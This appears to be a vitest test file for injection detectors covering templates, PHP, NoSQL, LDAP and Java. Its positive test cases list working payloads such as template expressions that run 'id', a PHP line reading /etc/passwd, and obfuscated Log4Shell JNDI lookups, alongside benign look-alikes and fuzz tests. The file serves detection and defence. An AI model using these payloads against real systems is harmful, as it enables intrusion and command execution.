// Templates, PHP, document databases, directories and Java: each with what it finds and what honest text looks like it.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { LexicalFinding } from '../../../../src/detectors/content/lexers/finding.ts';
import { findJava } from '../../../../src/detectors/content/lexers/java.ts';
import { findLdap } from '../../../../src/detectors/content/lexers/ldap.ts';
import { findNoSql } from '../../../../src/detectors/content/lexers/nosql.ts';
import { findPhp } from '../../../../src/detectors/content/lexers/php.ts';
import { findTemplate } from '../../../../src/detectors/content/lexers/template.ts';

const strength = (found: LexicalFinding | undefined): string => found?.strength ?? 'none';

describe('an expression for a template engine', () => {
  it.each([
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    "{{7*'7'}}",
    '{{config.items()}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{['id']|filter('system')}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '{% import os %}{{os.popen("id")}}',
    "<%= system('id') %>",
    '{php}echo 1;{/php}',
    "@{[system 'id']}",
  ])('is found in %s', (text) => {
    expect(strength(findTemplate(text))).toBe('sure');
  });

  it.each([
    '{{ title }}',
    '{% if field %}x{% endif %}',
    '{{ field_date|date("Y") }}',
    'Use ${name} here',
    'a #hash {b}',
    '[node:title]',
    '<div>{a}</div>',
    '100 % <b>',
  ])('is not found in %s', (text) => {
    expect(findTemplate(text)).toBeUndefined();
  });
});

describe('PHP where a value belongs', () => {
  it.each([
    '<?php system($_GET[1]); ?>',
    '<?=`id`?>',
    "system('cat /etc/passwd');",
    "eval(base64_decode('cGhwaW5mbygp'));",
    'O:8:"stdClass":1:{s:1:"a";i:2;}',
    "(system)('id')",
    "['system'][0]('id')",
    'auto_prepend_file=php://input',
  ])('is found in %s', (text) => {
    expect(strength(findPhp(text))).toBe('sure');
  });

  it.each([
    'Does the function base64_decode() exist in PHP?',
    'Snippet from our WordPress: <?php echo htmlspecialchars($_GET["q"], ENT_QUOTES); ?>',
    '<?xml version="1.0"?><a/>',
    'if (x) echo (nothing)',
    'The system (old) was replaced',
    'exec (something) later',
    '$view->getTitle()',
    'https://example.com/index.php?q=1',
  ])('is at most weak in %s', (text) => {
    expect(['none', 'weak']).toContain(strength(findPhp(text)));
  });
});

describe('a condition for a document database', () => {
  it.each([
    'user[$ne]',
    '{"$gt": ""}',
    '{"$where": "sleep(100)"}',
    "'; return true; var x='",
    "' || this.password.match(/.*/)//",
  ])('is found in %s', (text) => {
    expect(['sure', 'likely']).toContain(strength(findNoSql(text)));
  });

  it.each(['Price: $5', 'a || b', 'costs $in total', 'x == y', 'filter[status][value]'])(
    'is not found in %s',
    (text) => {
      expect(findNoSql(text)).toBeUndefined();
    },
  );
});

describe('a filter for a directory', () => {
  it.each(['*)(uid=*))(|(uid=*', '*)(&', 'admin)(&)', 'x)(|(cn=*', '(&(objectClass=*)(uid=a))'])(
    'is found in %s',
    (text) => {
      expect(['sure', 'likely']).toContain(strength(findLdap(text)));
    },
  );

  it.each(['f(x)(y)', 'see (a) and (b=c)', 'Smith (John)', '(1)(2)'])('is not found in %s', (text) => {
    expect(findLdap(text)).toBeUndefined();
  });
});

describe('what a Java server would run', () => {
  it.each([
    '${jndi:ldap://x.example/a}',
    '${${lower:j}ndi:ldap://x.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x.example/a}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}',
    '${jnd${upper:i}:rmi://x.example/a}',
    '${jndi:ldap://x.example/a',
    'class.module.classLoader.resources',
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    '@java.lang.Runtime@getRuntime()',
    'rO0ABXNyABFqYXZh',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
    '!!javax.script.ScriptEngineManager [a]',
  ])('is found in %s', (text) => {
    expect(strength(findJava(text))).toBe('sure');
  });

  it.each([
    '${name}',
    '${user.first} and ${user.last}',
    'javascript',
    'our class (module 3) starts',
    'org chart: see below',
    'com.example',
  ])('is not found in %s', (text) => {
    expect(findJava(text)).toBeUndefined();
  });
});

describe('the finders of languages', () => {
  const finders = [findTemplate, findPhp, findNoSql, findLdap, findJava];

  it('never throw, and find inside the text', () => {
    const pieces = fc.array(
      fc.constantFrom(
        '{',
        '{{',
        '}',
        '}}',
        '${',
        '<?',
        'php',
        '(',
        ')',
        '$_GET',
        '[',
        ']',
        "'",
        '"',
        '.',
        ':',
        'O:1:"a":0:{',
        '$ne',
        '||',
        'this.',
        'system',
        'lower:',
        'jndi:',
        ' ',
        '*',
        '&',
        '=',
        '<%',
        '%>',
        '7*7',
      ),
      { maxLength: 80 },
    );
    fc.assert(
      fc.property(
        fc.oneof(
          pieces.map((list) => list.join('')),
          fc.string({ unit: 'binary', maxLength: 200 }),
        ),
        (text) => {
          for (const find of finders) {
            const found = find(text);
            expect(found?.start ?? 0).toBeGreaterThanOrEqual(0);
            expect(found?.end ?? 0).toBeLessThanOrEqual(text.length);
          }
        },
      ),
    );
  });

  it('end for brackets without end', () => {
    for (const piece of [
      '{',
      '${',
      '${a:-',
      '(',
      ')(',
      'system(',
      '<%',
      '<?',
      '["a"',
      "'",
      '$a',
      '{{a',
      '@{',
      '__',
      '#{',
      'jndi',
      '*)',
      '&(',
      '||a',
    ]) {
      const text = piece.repeat(30_000);
      for (const find of finders) expect(() => find(text)).not.toThrow();
    }
  });
});
